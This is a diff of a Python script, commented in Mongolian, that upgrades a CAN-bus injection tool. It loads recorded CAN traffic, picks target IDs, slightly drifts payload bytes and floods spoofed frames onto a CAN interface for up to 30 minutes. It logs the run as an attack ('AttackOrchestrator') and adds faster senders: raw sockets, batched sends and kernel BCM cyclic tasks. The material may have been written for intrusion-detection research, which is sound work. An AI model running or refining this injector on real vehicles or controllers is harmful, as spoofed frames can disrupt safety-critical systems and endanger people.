@@ -1,16 +1,29 @@
 #!/usr/bin/env python3
 
-import csv
 import random
 import time
-import subprocess
 import logging
+import threading
 from datetime import datetime
 from typing import List, Dict, Tuple
 
+import numpy as np
+
+from trc_loader import empty_columns, load_trc, load_csv, MessageList, MessagesById
+from dataset_cache import DatasetCache
+from send_scheduler import PeriodicScheduler
+from can_backends import make_backend, frame_string
+
 DATASET_PATH = "dataset200.trc"  
 CAN_INTERFACE = "can0"
 MESSAGE_RATE = 9.5  
+SCHEDULE_MODE = "rate"      # rate: MESSAGE_RATE-аар санамсаргүй ID | periodic: ID бүр dataset дахь өөрийн давтамжаар
+LATE_POLICY = "catch_up"    # Хоцорсон slot: catch_up = нөхөж илгээх | skip = алгасах
+PERIOD_SCALE = 1.0          # periodic горимд dataset period * scale (0.5 = 2 дахин хурдан)
+TX_MODE = "scheduler"       # scheduler: Python loop (SEND_BACKEND) | bcm: kernel BCM cyclic task (bcm_sender.py)
+SEND_BACKEND = "subprocess" # subprocess (cansend) | socket (raw CAN socket) | python_can | api | batch_api (can_backends.py)
+BCM_FRAMES = 16             # bcm: ID бүрийн task-д ээлжлэн илгээх drift хийсэн payload-ын тоо
+BCM_REFRESH_S = 1.0         # bcm: payload-уудыг шинэ drift-ээр солих интервал (0 = солихгүй)
 ATTACK_DURATION = 30 * 60  
 
 TARGET_IDS = [
@@ -24,6 +37,12 @@ TARGET_IDS = [
 DRIFT_PROBABILITY = 0.7  # 70% магадлалтай drift хийнэ
 MAX_DRIFT_VALUE = 2  # +/- 2-оос ихгүй өөрчлөлт
 MAX_MESSAGES_PER_ID = 50
+DRIFT_SEED = None  # Тогтмол тоо өгвөл drift-ийн дараалал run бүрт ижил (reproducible)
+PAYLOAD_RING_SIZE = 65536  # Урьдчилан үүсгэсэн payload-ын ring buffer
+PAYLOAD_BATCH = 4096       # Нэг удаад vectorized үүсгэх payload-ын тоо
+PARSE_WORKERS = 0  # TRC parse хийх process-ийн тоо (0 = CPU бүрт нэг, 1 = нэг process)
+DATASET_CACHE = True  # Parse хийсэн dataset-ийг cache-лэх (dataset_cache.py, DATASET_CACHE_DIR)
+PROGRESS_S = 5.0  # Явцын мэдээг (rate, jitter) хэдэн секунд тутам хэвлэх
 
 log_filename = f"attack_log_{datetime.now().strftime('%Y%m%d_%H%M%S')}.log"
 logging.basicConfig(
@@ -38,20 +57,47 @@ logging.basicConfig(
 class DatasetLoader:
     def __init__(self, file_path: str):
         self.file_path = file_path
-        self.messages = []
-        self.messages_by_id = {}
+        self._set_columns(empty_columns())
+        
+    def _set_columns(self, columns, index=None):
+        """Parse хийсэн багана (ids, id_lens, dlc, data[n, 8], ts) болон dict view-үүд"""
+        self.ids, self.id_lens, self.dlc, self.data, self.ts = columns
+        self.messages = MessageList(columns)
+        self.messages_by_id = MessagesById(columns, index)
         
     def load(self):
         """TRC эсвэл CSV файлаас нормал мессежүүдийг уншина"""
         logging.info(f"Dataset уншиж байна: {self.file_path}")
         
         if self.file_path.lower().endswith('.trc'):
-            self._load_trc()
+            fmt, parse = 'trc', self._load_trc
         elif self.file_path.lower().endswith('.csv'):
-            self._load_csv()
+            fmt, parse = 'csv', self._load_csv
         else:
             raise ValueError("Зөвхөн .trc эсвэл .csv файл дэмжигдэнэ!")
         
+        # Өмнө parse хийсэн snapshot байвал mmap-аар шууд ашиглана
+        cache = None
+        if DATASET_CACHE:
+            cache = DatasetCache(self.file_path, {
+                'format': fmt,
+                'cap': MAX_MESSAGES_PER_ID if fmt == 'trc' else None,
+            })
+        hit = cache.load() if cache else None
+        
+        if hit is not None:
+            columns, index, _ = hit
+            self._set_columns(columns, index)
+            logging.info(f"Cache-аас уншлаа (parse алгассан): {cache.path}")
+        else:
+            stats = parse()
+            if cache is not None:
+                try:
+                    cache.save((self.ids, self.id_lens, self.dlc, self.data, self.ts), stats)
+                    logging.info(f"Cache хадгаллаа: {cache.path}")
+                except OSError as e:
+                    logging.warning(f"Cache хадгалж чадсангүй: {e}")
+        
         logging.info(f"Нийт {len(self.messages)} message уншлаа")
         logging.info(f"Өөр {len(self.messages_by_id)} ID олдлоо")
         
@@ -65,128 +111,98 @@ class DatasetLoader:
         
         return self
     
+    def periods(self) -> Dict[str, float]:
+        """ID бүрийн мессеж хоорондын хугацааны median (секунд), ts-гүй бол орхино"""
+        periods = {}
+        for can_id, view in self.messages_by_id.items():
+            ts = np.asarray(self.ts[np.asarray(view.rows)], dtype=np.float64)
+            gaps = np.diff(ts[~np.isnan(ts)])
+            gaps = gaps[gaps > 0]
+            if len(gaps):
+                periods[can_id] = float(np.median(gaps))
+        return periods
+    
     def _load_trc(self):
-        """TRC файл (Vector CANoe/CANalyzer trace) уншина - Memory optimized"""
+        """TRC файл (Vector CANoe/CANalyzer trace) уншина - NumPy-аар chunk-аар парс (trc_loader.py)"""
         logging.info("TRC формат парс хийж байна...")
         
-        id_message_counts = {}  # ID бүрээс хэдэн мессеж аль хэдийн авсан
+        # MAX_MESSAGES_PER_ID хязгаарыг chunk бүрийг парс хийсний дараа тавина
+        # Том файлыг мөрийн зааг дээр хувааж PARSE_WORKERS process-оор парс хийнэ
+        *columns, stats = load_trc(self.file_path, MAX_MESSAGES_PER_ID, workers=PARSE_WORKERS)
+        self._set_columns(tuple(columns))
         
-        with open(self.file_path, 'r', encoding='latin-1', errors='ignore') as f:
-            line_num = 0
-            parsed_count = 0
-            skipped_count = 0
-            
-            for line in f:
-                line_num += 1
-                
-                # Progress хэвлэх (100,000 мөр бүрт)
-                if line_num % 100000 == 0:
-                    logging.info(f"Уншсан мөр: {line_num:,} | Хадгалсан: {parsed_count:,} | Алгассан: {skipped_count:,}")
-                
-                line = line.strip()
-                
-                # Хоосон мөр эсвэл тайлбар алгасах
-                if not line or line.startswith(';') or line.startswith('//'):
-                    continue
-                
-                # Формат: 643935)    308547.5  Rx         01F1  8  00 52 EF 00 0F EC D0 0E
-                parts = line.split()
-                
-                if len(parts) < 6:
-                    continue
-                
-                try:
-                    # Rx хайх
-                    rx_idx = -1
-                    for i, part in enumerate(parts):
-                        if part.upper() in ['RX', 'TX']:
-                            rx_idx = i
-                            break
-                    
-                    if rx_idx == -1 or rx_idx + 2 >= len(parts):
-                        continue
-                    
-                    # ID нь Rx дараах хэсэг (leading 0 хадгална!)
-                    can_id = parts[rx_idx + 1].upper()
-                    
-                    # ID бүрээс хязгаарт хүрсэн эсэхийг шалгах
-                    if can_id in id_message_counts:
-                        if id_message_counts[can_id] >= MAX_MESSAGES_PER_ID:
-                            skipped_count += 1
-                            continue
-                    else:
-                        id_message_counts[can_id] = 0
-                    
-                    # DLC нь дараагийнх
-                    dlc = int(parts[rx_idx + 2])
-                    
-                    # Data байтууд rx_idx + 3-аас эхлэнэ
-                    data_bytes = []
-                    for j in range(rx_idx + 3, min(rx_idx + 11, len(parts))):
-                        try:
-                            data_bytes.append(int(parts[j], 16))
-                        except ValueError:
-                            break
-                    
-                    if len(data_bytes) < dlc:
-                        continue
-                    
-                    # 8 байт болтлоо дүүргэх
-                    while len(data_bytes) < 8:
-                        data_bytes.append(0)
-                    
-                    # Эхний 8 байт авах
-                    data_bytes = data_bytes[:8]
-                    
-                    msg = {
-                        'id': can_id,
-                        'dlc': dlc,
-                        'data': data_bytes
-                    }
-                    
-                    self.messages.append(msg)
-                    
-                    if msg['id'] not in self.messages_by_id:
-                        self.messages_by_id[msg['id']] = []
-                    self.messages_by_id[msg['id']].append(msg)
-                    
-                    id_message_counts[can_id] += 1
-                    parsed_count += 1
-                    
-                    # Анхны хэдэн мөрийг debug хэвлэх
-                    if parsed_count <= 3:
-                        data_str = ' '.join(f'{b:02X}' for b in data_bytes)
-                        logging.debug(f"Parsed: ID={msg['id']} DLC={dlc} Data=[{data_str}]")
-                    
-                except (ValueError, IndexError) as e:
-                    logging.debug(f"Мөр {line_num} parse хийж чадсангүй: {e}")
-                    continue
-        
-        logging.info(f"TRC файлаас {parsed_count:,} мессеж амжилттай уншлаа")
-        logging.info(f"Нийт мөр: {line_num:,} | Алгассан: {skipped_count:,}")
+        logging.info(f"TRC файлаас {stats['kept']:,} мессеж амжилттай уншлаа")
+        logging.info(f"Нийт мөр: {stats['lines']:,} | Алгассан: {stats['parsed'] - stats['kept']:,}")
+        return stats
     
     def _load_csv(self):
         """CSV файл уншина"""
-        with open(self.file_path, 'r') as f:
-            reader = csv.DictReader(f)
-            for row in reader:
-                msg = {
-                    'id': row['ID'].strip().upper(),
-                    'dlc': int(row['LEN']),
-                    'data': [
-                        int(row.get(f'D{i}', '0'), 16) 
-                        for i in range(1, 9)
-                    ]
-                }
-                self.messages.append(msg)
-                
-                if msg['id'] not in self.messages_by_id:
-                    self.messages_by_id[msg['id']] = []
-                self.messages_by_id[msg['id']].append(msg)
+        self._set_columns(load_csv(self.file_path))
+        return {}
 
 class PayloadGenerator:
-    def __init__(self, messages_by_id: Dict):
+    def __init__(self, messages_by_id: Dict, seed=DRIFT_SEED):
         self.messages_by_id = messages_by_id
+        self.rng = np.random.default_rng(seed)
+        self._pools = {}
+        
+    def _pool(self, target_ids: Tuple[str, ...]):
+        """target_ids-ийн baseline-уудыг нэг массивт: (ids, offsets, sizes, dlc, data[k, 8])"""
+        pool = self._pools.get(target_ids)
+        if pool is not None:
+            return pool
+        
+        ids, dlcs, datas = [], [], []
+        for target_id in target_ids:
+            if target_id not in self.messages_by_id:
+                logging.warning(f"ID {target_id} dataset-д байхгүй!")
+                continue
+            view = self.messages_by_id[target_id]
+            if isinstance(view, MessageList):
+                # Loader-ийн баганаас шууд (dict үүсгэхгүй)
+                rows = np.asarray(view.rows if view.rows is not None else range(len(view)))
+                dlcs.append(np.asarray(view.dlc[rows], dtype=np.uint8))
+                datas.append(np.asarray(view.data[rows], dtype=np.uint8))
+            else:
+                dlcs.append(np.array([m['dlc'] for m in view], dtype=np.uint8))
+                datas.append(np.array([m['data'][:8] for m in view], dtype=np.uint8).reshape(-1, 8))
+            ids.append(target_id)
+        if not ids:
+            raise ValueError(f"Dataset-д {list(target_ids)} ID-уудын аль нь ч байхгүй")
+        
+        sizes = np.array([len(d) for d in dlcs], dtype=np.int64)
+        offsets = np.concatenate([[0], np.cumsum(sizes)[:-1]])
+        pool = (np.array(ids), offsets, sizes, np.concatenate(dlcs), np.concatenate(datas))
+        self._pools[target_ids] = pool
+        return pool
+    
+    def generate_batch(self, target_ids: List[str], n: int):
+        """
+        apply_drift-тэй ижил дүрмээр n payload-ыг нэг дор (NumPy, seeded rng) үүсгэнэ:
+        ID-г target_ids-ээс, baseline-ийг тухайн ID-ний мессежүүдээс санамсаргүй сонгож,
+        DRIFT_PROBABILITY магадлалтайгаар 1-2 байтыг ±MAX_DRIFT_VALUE-ээр өөрчилнө.
+        Returns (ids [n] str, dlc [n] uint8, data [n, 8] uint8)
+        """
+        ids, offsets, sizes, pool_dlc, pool_data = self._pool(tuple(target_ids))
+        rng = self.rng
+        
+        # ID жигд, дараа нь тухайн ID доторх baseline жигд (select_baseline-тэй адил)
+        which = rng.integers(0, len(ids), n)
+        rows = offsets[which] + (rng.random(n) * sizes[which]).astype(np.int64)
+        data = pool_data[rows].astype(np.int16)
+        
+        # Drift: давхцахгүй 2 байрлал, 2 дахь нь зөвхөн 2 байт drift хийх мөрөнд
+        drift = rng.random(n) < DRIFT_PROBABILITY
+        second = drift & (rng.integers(1, 3, n) == 2)
+        pos1 = rng.integers(0, 8, n)
+        pos2 = (pos1 + rng.integers(1, 8, n)) % 8
+        amount = rng.integers(-MAX_DRIFT_VALUE, MAX_DRIFT_VALUE + 1, (2, n))
+        r = np.arange(n)
+        data[r, pos1] += np.where(drift, amount[0], 0).astype(np.int16)
+        data[r, pos2] += np.where(second, amount[1], 0).astype(np.int16)
+        
+        # 0x00 - 0xFF хязгаарт байлгах
+        return ids[which], pool_dlc[rows], np.clip(data, 0, 255).astype(np.uint8)
         
     def select_baseline(self, target_id: str) -> Dict:
         """Тухайн ID-ний мессежүүдээс санамсаргүй нэгийг сонгох"""
@@ -229,69 +245,171 @@ class PayloadGenerator:
         
         return drifted
 
+class PayloadRing:
+    """
+    Илгээгчээс түрүүлж generate_batch-аар дүүргэсэн ring buffer.
+    background=True үед тусдаа thread дүүргэнэ, эс бөгөөс хоосон болоход
+    нэг batch-аар нөхнө. next() нь CANSender.send_message-д шууд өгөх dict буцаана.
+    """
+    
+    def __init__(self, generator: PayloadGenerator, target_ids: List[str],
+                 size: int = PAYLOAD_RING_SIZE, batch: int = PAYLOAD_BATCH, background: bool = True):
+        self.generator = generator
+        self.target_ids = list(target_ids)
+        self.batch = max(1, min(batch, size))
+        self.size = max(size, self.batch)
+        self.ids = np.empty(self.size, dtype=object)
+        self.dlc = np.zeros(self.size, dtype=np.uint8)
+        self.data = np.zeros((self.size, 8), dtype=np.uint8)
+        self.written = 0
+        self.read = 0
+        self.waits = 0          # next() буфер хоосон байж хүлээсэн тоо
+        self._cond = threading.Condition()
+        self._closed = False
+        self._thread = None
+        if background:
+            self._thread = threading.Thread(target=self._fill_loop, name="payload-ring", daemon=True)
+            self._thread.start()
+    
+    def _fill_once(self):
+        ids, dlc, data = self.generator.generate_batch(self.target_ids, self.batch)
+        slots = np.arange(self.written, self.written + self.batch) % self.size
+        self.ids[slots] = ids
+        self.dlc[slots] = dlc
+        self.data[slots] = data
+    
+    def _fill_loop(self):
+        while True:
+            with self._cond:
+                while not self._closed and self.size - (self.written - self.read) < self.batch:
+                    self._cond.wait()
+                if self._closed:
+                    return
+            # Чөлөөтэй slot-уудыг lock-гүй бичнэ, уншигч written хүртэл л уншина
+            self._fill_once()
+            with self._cond:
+                self.written += self.batch
+                self._cond.notify_all()
+    
+    def next(self) -> Dict:
+        with self._cond:
+            if self.read == self.written:
+                self.waits += 1
+                if self._thread is None:
+                    self._fill_once()
+                    self.written += self.batch
+                while self.read == self.written and not self._closed:
+                    self._cond.wait()
+                if self.read == self.written:
+                    raise RuntimeError("PayloadRing хаагдсан")
+            i = self.read % self.size
+            self.read += 1
+            if self.size - (self.written - self.read) >= self.batch:
+                self._cond.notify_all()
+            return {'id': self.ids[i], 'dlc': int(self.dlc[i]), 'data': self.data[i].tolist()}
+    
+    def close(self):
+        with self._cond:
+            self._closed = True
+            self._cond.notify_all()
+
 class CANSender:
-    def __init__(self, interface: str):
+    def __init__(self, interface: str, backend: str = "subprocess"):
         self.interface = interface
         self.total_sent = 0
         self.success_count = 0
         self.error_count = 0
+        self._frame_ids = {}  # ID string -> (int ID, extended)
+        try:
+            self.backend = make_backend(backend, interface)
+        except OSError:
+            self._log_interface_error()
+            raise
+        
+    def _frame_id(self, can_id: str):
+        """
+        CAN ID форматлах (нэг ID-д нэг л удаа)
+        Standard CAN (11-bit): 0081 -> 081, 0370 -> 370, 02B0 -> 2B0
+        """
+        frame_id = self._frame_ids.get(can_id)
+        if frame_id is None:
+            value = int(can_id, 16)
+            frame_id = self._frame_ids[can_id] = (value, value > 0x7FF)
+        return frame_id
+    
+    def _log_interface_error(self):
+        logging.error(f"❌ CAN interface '{self.interface}' олдохгүй байна!")
+        logging.error(f"   Шалгах: ip link show {self.interface}")
+        logging.error(f"   Идэвхжүүлэх: sudo ip link set {self.interface} up type can bitrate 500000")
+    
+    def _log_error(self, frame: str, error: Exception):
+        error_msg = str(error)
+        # Device алдааг нэг удаа л хэвлэх
+        if ('if_nametoindex' in error_msg or 'No such device' in error_msg):
+            if self.error_count == 1:
+                self._log_interface_error()
+        elif 'Wrong CAN-frame format' not in error_msg:
+            logging.error(f"✗ Failed: {frame} - {error_msg}")
         
     def send_message(self, msg: Dict) -> bool:
-        """cansend ашиглан мессеж илгээх"""
+        """Сонгосон backend-ээр (SEND_BACKEND) мессеж илгээх"""
         try:
-            # CAN ID форматлах
-            # Standard CAN (11-bit): 3 оронтой HEX хэрэгтэй
-            # 0081 -> 081, 0080 -> 080, 0370 -> 370, 02B0 -> 2B0
-            can_id_clean = msg['id'].lstrip('0') or '0'
-            
-            # 3 орноос бага бол 0-ээр нөхөх (080, 081 гэх мэт)
-            if len(can_id_clean) < 3:
-                can_id_clean = can_id_clean.zfill(3)
-            
-            # Payload форматлах: "ID#DATA1DATA2..."
-            data_hex = ''.join(f'{byte:02X}' for byte in msg['data'][:msg['dlc']])
-            frame = f"{can_id_clean}#{data_hex}"
-            
-            # cansend ажиллуулах
-            result = subprocess.run(
-                ['cansend', self.interface, frame],
-                capture_output=True,
-                timeout=1
-            )
-            
-            if result.returncode == 0:
-                self.success_count += 1
-                self.total_sent += 1
-                logging.info(
-                    f"Sent #{self.total_sent} | ID={msg['id']} DLC={msg['dlc']} "
-                    f"DATA={data_hex} FRAME={frame}"
-                )
-                return True
-            else:
-                self.error_count += 1
-                error_msg = result.stderr.decode().strip()
-                # Device алдааг нэг удаа л хэвлэх
-                if 'if_nametoindex' in error_msg and self.error_count == 1:
-                    logging.error(f"❌ CAN interface '{self.interface}' олдохгүй байна!")
-                    logging.error(f"   Шалгах: ip link show {self.interface}")
-                    logging.error(f"   Идэвхжүүлэх: sudo ip link set {self.interface} up type can bitrate 500000")
-                elif 'Wrong CAN-frame format' not in error_msg:
-                    logging.error(f"✗ Failed: {frame} - {error_msg}")
-                return False
-                
-        except Exception as e:
+            can_id, extended = self._frame_id(msg['id'])
+            data = bytes(msg['data'][:msg['dlc']])
+        except (ValueError, KeyError) as e:
             self.error_count += 1
             logging.error(f"Exception sending message: {e}")
             return False
+        
+        try:
+            self.backend.send(can_id, data, extended)
+        except Exception as e:
+            self.error_count += 1
+            self._log_error(frame_string(can_id, data, extended), e)
+            return False
+        
+        self.success_count += 1
+        self.total_sent += 1
+        # Frame бүрийн log kHz rate-д хэт үнэтэй тул зөвхөн DEBUG үед (явцыг send_slot хэвлэнэ)
+        if logging.getLogger().isEnabledFor(logging.DEBUG):
+            logging.debug(
+                f"Sent #{self.total_sent} | ID={msg['id']} DLC={msg['dlc']} "
+                f"DATA={data.hex().upper()} FRAME={frame_string(can_id, data, extended)}"
+            )
+        return True
+    
+    def send_batch(self, msgs: List[Dict]) -> int:
+        """Олон мессежийг нэг дор (socket: sendmmsg, batch_api: /api/cansend/batch)"""
+        frames = []
+        for msg in msgs:
+            can_id, extended = self._frame_id(msg['id'])
+            frames.append((can_id, bytes(msg['data'][:msg['dlc']]), extended))
+        
+        try:
+            sent = self.backend.send_many(frames)
+        except Exception as e:
+            self.error_count += len(frames)
+            self._log_error(f"{len(frames)} frame batch", e)
+            return 0
+        
+        self.success_count += sent
+        self.total_sent += sent
+        self.error_count += len(frames) - sent
+        logging.debug(f"Sent batch {sent}/{len(frames)} | Нийт #{self.total_sent}")
+        return sent
     
     def get_stats(self) -> Dict:
-        """Статистик мэдээлэл"""
+        """Статистик мэдээлэл (backend-ийн throughput-тай)"""
         return {
             'total': self.total_sent,
             'success': self.success_count,
             'error': self.error_count,
-            'success_rate': (self.success_count / self.total_sent * 100) if self.total_sent > 0 else 0
+            'success_rate': (self.success_count / self.total_sent * 100) if self.total_sent > 0 else 0,
+            'backend': self.backend.stats(),
         }
+    
+    def close(self):
+        self.backend.close()
 
 class AttackOrchestrator:
     def __init__(self, dataset_loader, target_ids, message_rate, duration):
@@ -300,62 +418,167 @@ class AttackOrchestrator:
         self.message_rate = message_rate
         self.duration = duration
         self.payload_gen = PayloadGenerator(dataset_loader.messages_by_id)
-        self.sender = CANSender(CAN_INTERFACE)
+        self.sender = CANSender(CAN_INTERFACE, SEND_BACKEND)
+        self.scheduler = None
+        self.rings = {}   # ID (rate горимд None) -> PayloadRing
+        self.message_count = 0
+        self.next_progress = 0.0
+        self.bcm_rate = 0.0
+        self.bcm_updates = 0
+        
+    def build_schedules(self) -> List[Tuple[str, float]]:
+        """(ID, period) жагсаалт: rate горимд нэг schedule (ID=None), periodic горимд ID бүрт нэг"""
+        if SCHEDULE_MODE == "rate":
+            return [(None, 1.0 / self.message_rate)]
+        if SCHEDULE_MODE != "periodic":
+            raise ValueError(f"SCHEDULE_MODE буруу: {SCHEDULE_MODE} (rate эсвэл periodic)")
+        
+        periods = self.dataset_loader.periods()
+        fallback = len(self.target_ids) / self.message_rate
+        schedules = []
+        for can_id in self.target_ids:
+            if can_id not in self.dataset_loader.messages_by_id:
+                logging.warning(f"ID {can_id} dataset-д байхгүй, алгасаж байна")
+                continue
+            period = periods.get(can_id)
+            if period is None:
+                logging.warning(f"ID {can_id}: dataset-д timestamp алга, {fallback * 1000:.1f} ms period ашиглана")
+                period = fallback
+            schedules.append((can_id, period * PERIOD_SCALE))
+        return schedules
+        
+    def send_slot(self, target_id):
+        """Scheduler-ийн нэг slot: урьдчилан drift хийсэн payload-ыг ring-ээс авч илгээнэ"""
+        # rate горимд (target_id=None) ID-г generator санамсаргүй сонгосон
+        ring = self.rings.get(target_id)
+        if ring is None:
+            logging.warning(f"ID {target_id} dataset-д байхгүй, алгасаж байна")
+            return
+        payload = ring.next()
+        
+        # Илгээх
+        success = self.sender.send_message(payload)
+        
+        if success:
+            self.message_count += 1
+            
+            # PROGRESS_S тутам нэг мөр: rate, амжилт, scheduler-ийн jitter
+            now = time.time()
+            if now >= self.next_progress:
+                self.next_progress = now + PROGRESS_S
+                elapsed = now - self.start_time
+                stats = self.sender.get_stats()
+                jitter = self.scheduler.jitter.summary()
+                logging.info(
+                    f"Progress: {self.message_count} msgs | "
+                    f"Time: {elapsed:.1f}s | "
+                    f"Rate: {self.message_count / max(elapsed, 1e-9):.1f} msg/s | "
+                    f"Success: {stats['success_rate']:.1f}% | "
+                    f"Jitter p50/p99: {jitter['p50_us']:.0f}/{jitter['p99_us']:.0f} us"
+                )
         
     def run(self):
         """Халдлагын үндсэн loop"""
+        if TX_MODE == "bcm":
+            return self.run_bcm()
+        
+        schedules = self.build_schedules()
+        total_rate = sum(1.0 / period for _, period in schedules)
+        
         logging.info("="*60)
         logging.info("ХАЛДЛАГА ЭХЭЛЛЭЭ")
         logging.info(f"Зорилтот ID-ууд: {self.target_ids}")
-        logging.info(f"Rate: {self.message_rate} msg/sec")
+        logging.info(f"Rate: {total_rate:.1f} msg/sec ({SCHEDULE_MODE}, {LATE_POLICY})")
         logging.info(f"Хугацаа: {self.duration} секунд")
         logging.info("="*60)
         
-        interval = 1.0 / self.message_rate
-        start_time = time.time()
-        next_send_time = start_time
-        message_count = 0
+        # Payload-уудыг илгээгчээс түрүүлж batch-аар үүсгэнэ
+        if SCHEDULE_MODE == "rate":
+            self.rings = {None: PayloadRing(self.payload_gen, self.target_ids)}
+        else:
+            self.rings = {
+                can_id: PayloadRing(self.payload_gen, [can_id], size=1024, batch=256, background=False)
+                for can_id, _ in schedules
+            }
+        
+        # Deadline бүр start + n * period тул sleep/илгээлтийн хугацаа drift болж хуримтлагдахгүй
+        self.scheduler = PeriodicScheduler(schedules, policy=LATE_POLICY)
+        self.start_time = time.time()
+        self.next_progress = self.start_time + PROGRESS_S
+        start_time = self.start_time
         
         try:
-            while (time.time() - start_time) < self.duration:
-                # Санамсаргүй ID сонгох
-                target_id = random.choice(self.target_ids)
-                
-                # Baseline мессеж авах
-                baseline = self.payload_gen.select_baseline(target_id)
-                if baseline is None:
-                    logging.warning(f"ID {target_id} dataset-д байхгүй, алгасаж байна")
-                    continue
-                
-                # Drift хийх
-                payload = self.payload_gen.apply_drift(baseline)
-                
-                # Илгээх
-                success = self.sender.send_message(payload)
-                
-                if success:
-                    message_count += 1
-                    
-                    # 100 мессеж бүрт статистик хэвлэх
-                    if message_count % 100 == 0:
-                        elapsed = time.time() - start_time
-                        stats = self.sender.get_stats()
-                        logging.info(
-                            f"Progress: {message_count} msgs | "
-                            f"Time: {elapsed:.1f}s | "
-                            f"Success: {stats['success_rate']:.1f}%"
-                        )
-                
-                # Rate limiting
-                next_send_time += interval
-                sleep_time = next_send_time - time.time()
-                if sleep_time > 0:
-                    time.sleep(sleep_time)
+            self.scheduler.run(self.send_slot, self.duration)
                 
         except KeyboardInterrupt:
             logging.info("\n⚠ Хэрэглэгч зогсоолоо (Ctrl+C)")
         
         finally:
+            for ring in self.rings.values():
+                ring.close()
+            self.print_summary(start_time)
+            self.sender.close()
+    
+    def bcm_schedules(self) -> List[Tuple[str, float]]:
+        """BCM task нь ID бүрт нэг тул rate горимд MESSAGE_RATE-ийг байгаа ID-уудад тэнцүү хуваана"""
+        if SCHEDULE_MODE != "rate":
+            return self.build_schedules()
+        
+        available = []
+        for can_id in self.target_ids:
+            if can_id in self.dataset_loader.messages_by_id:
+                available.append(can_id)
+            else:
+                logging.warning(f"ID {can_id} dataset-д байхгүй, алгасаж байна")
+        period = len(available) / self.message_rate
+        return [(can_id, period) for can_id in available]
+    
+    def drifted_payloads(self, can_id: str, count: int) -> List[bytes]:
+        """Нэг ID-д drift хийсэн count ширхэг payload (DLC урттай)"""
+        _, dlc, data = self.payload_gen.generate_batch([can_id], count)
+        return [bytes(row[:n]) for row, n in zip(data, dlc)]
+    
+    def run_bcm(self):
+        """Kernel BCM cyclic task-аар илгээх: Python frame бүрт сэрэхгүй, зөвхөн drift шинэчилнэ"""
+        from bcm_sender import CyclicSender
+        
+        schedules = self.bcm_schedules()
+        
+        logging.info("="*60)
+        logging.info("ХАЛДЛАГА ЭХЭЛЛЭЭ (BCM)")
+        logging.info(f"Зорилтот ID-ууд: {[can_id for can_id, _ in schedules]}")
+        logging.info(f"Rate: {sum(1.0 / p for _, p in schedules):.1f} msg/sec ({SCHEDULE_MODE}, kernel timer)")
+        logging.info(f"Хугацаа: {self.duration} секунд")
+        logging.info("="*60)
+        
+        start_time = time.time()
+        sender = None
+        try:
+            sender = CyclicSender(CAN_INTERFACE)
+            for can_id, period in schedules:
+                sender.start(int(can_id, 16), self.drifted_payloads(can_id, BCM_FRAMES), period)
+            self.bcm_rate = sender.frame_rate()
+            
+            # Kernel илгээж байх хооронд зөвхөн payload-уудыг шинэчилнэ
+            while True:
+                remaining = self.duration - (time.time() - start_time)
+                if remaining <= 0:
+                    break
+                time.sleep(min(BCM_REFRESH_S, remaining) if BCM_REFRESH_S > 0 else remaining)
+                if BCM_REFRESH_S > 0 and time.time() - start_time < self.duration:
+                    for can_id, _ in schedules:
+                        sender.update(int(can_id, 16), self.drifted_payloads(can_id, BCM_FRAMES))
+                    self.bcm_updates += 1
+        
+        except KeyboardInterrupt:
+            logging.info("\n⚠ Хэрэглэгч зогсоолоо (Ctrl+C)")
+        
+        except Exception as e:
+            logging.error(f"❌ BCM task эхлүүлж чадсангүй ({CAN_INTERFACE}): {e}")
+        
+        finally:
+            if sender is not None:
+                sender.close()
             self.print_summary(start_time)
     
     def print_summary(self, start_time):
@@ -370,6 +593,28 @@ class AttackOrchestrator:
         logging.info(f"Амжилттай: {stats['success']} ({stats['success_rate']:.1f}%)")
         logging.info(f"Алдаа: {stats['error']}")
         logging.info(f"Дундаж rate: {stats['total']/elapsed:.2f} msg/sec")
+        backend = stats['backend']
+        if backend['calls']:
+            logging.info(
+                f"Backend: {backend['backend']} | {backend['frames_per_s']:.0f} msg/sec | "
+                f"{backend['us_per_frame']:.0f} µs/msg илгээхэд | Алдаа: {backend['errors']}"
+            )
+        if self.scheduler is not None:
+            sched = self.scheduler.stats()
+            jitter = sched['jitter']
+            logging.info(
+                f"Slot: {sched['sent']} | Алгассан: {sched['skipped']} | "
+                f"Хоцорч нөхсөн: {sched['caught_up']}"
+            )
+            logging.info(
+                f"Jitter (µs): mean {jitter['mean_us']:.0f} | p50 {jitter['p50_us']:.0f} | "
+                f"p99 {jitter['p99_us']:.0f} | max {jitter['max_us']:.0f}"
+            )
+        if self.bcm_rate:
+            logging.info(
+                f"BCM: ~{self.bcm_rate * elapsed:.0f} мессеж kernel илгээсэн (тооцоолол) | "
+                f"Payload шинэчилсэн: {self.bcm_updates} удаа"
+            )
         logging.info(f"Log файл: {log_filename}")
         logging.info("="*60)
 